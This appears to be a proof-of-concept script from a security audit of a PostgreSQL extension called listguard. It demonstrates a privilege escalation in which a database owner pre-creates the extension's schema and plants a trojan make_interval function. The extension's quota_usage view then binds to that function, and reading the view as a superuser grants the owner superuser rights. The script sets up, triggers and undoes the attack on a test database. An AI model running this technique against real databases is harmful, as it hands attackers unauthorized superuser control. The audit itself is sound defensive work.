#!/usr/bin/env bash
# FINDING (round 3, database owner -> superuser; follows 32): the install
# script creates views with unqualified calls resolved through
# search_path = listguard (the extension's schema). In quota_usage,
# make_interval(secs => g.quota_window) passes a bigint where PostgreSQL's
# make_interval takes double precision, so a function
# listguard.make_interval(secs bigint) is the better match. A database owner
# who created schema listguard before CREATE EXTENSION puts that function in
# it; CREATE EXTENSION bakes it into listguard.quota_usage (SELECT granted
# to PUBLIC, the view administrators read for every quota); it then runs as
# whoever reads the view. Read by a superuser, it makes the owner a
# superuser; read by an administrator, it could grant itself clear access.
# (The same holds for ALTER EXTENSION ... UPDATE scripts, which create
# functions and views again, whenever the schema is not the extension's.)
# Expected secure outcome: CREATE EXTENSION refuses the pre-existing schema,
# or every name in the scripts is schema-qualified or exact; a_dbo stays
# NOSUPERUSER.
# RESULT: FINDING (H): a_dbo becomes a superuser when postgres reads
# listguard.quota_usage.
# Needs PGHOST, PGPORT (superuser postgres), the roles of setup.sql.
set -u
P="psql -X -q"
$P -U postgres -d postgres -c "DROP DATABASE IF EXISTS atk_pre2" -c "CREATE DATABASE atk_pre2 OWNER a_dbo"
$P -U a_dbo -d atk_pre2 <<'SQL'
CREATE SCHEMA listguard;
CREATE FUNCTION listguard.make_interval(secs bigint) RETURNS interval LANGUAGE plpgsql AS $$
BEGIN
  IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
    EXECUTE 'ALTER ROLE a_dbo SUPERUSER';
  END IF;
  RETURN pg_catalog.make_interval(secs => secs::float8);
END $$;
SQL
$P -U postgres -d atk_pre2 <<'SQL'
CREATE EXTENSION listguard;
SELECT pg_get_viewdef('listguard.quota_usage'::regclass) ~ 'listguard\.make_interval|[^_]make_interval' AS view_uses_a_make_interval,
       (SELECT count(*) FROM pg_depend d JOIN pg_proc p ON p.oid = d.refobjid
        WHERE d.classid = 'pg_rewrite'::regclass AND p.proname = 'make_interval' AND p.pronamespace = 'listguard'::regnamespace) AS bound_to_owners_function;
SELECT listguard.grant_access('a_clear', 1, 11, reveal => 'clear', quota => '10/day') IS NOT NULL AS granted;
SELECT 'before: a_dbo superuser = ' || rolsuper FROM pg_roles WHERE rolname = 'a_dbo';
SELECT count(*) AS quotas_seen FROM listguard.quota_usage;   -- what an administrator reads
SELECT 'after: a_dbo superuser = ' || rolsuper FROM pg_roles WHERE rolname = 'a_dbo';
ALTER ROLE a_dbo NOSUPERUSER;   -- undo for the other scripts
SQL
